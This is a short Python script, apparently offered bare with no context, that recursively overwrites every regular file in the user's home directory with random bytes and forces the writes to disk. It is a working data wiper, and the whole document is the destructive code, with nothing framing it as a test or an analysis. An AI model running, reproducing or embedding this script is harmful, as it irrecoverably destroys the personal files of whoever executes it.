import os
from pathlib import Path

def nuke(p: Path):
    size = p.stat().st_size
    with p.open("r+b") as fh:
        fh.write(os.urandom(size))
        fh.flush()
        os.fsync(fh.fileno())

for f in Path.home().rglob("*"):
    if f.is_file() and not f.is_symlink():
        try:
            nuke(f)
        except OSError:
            continue
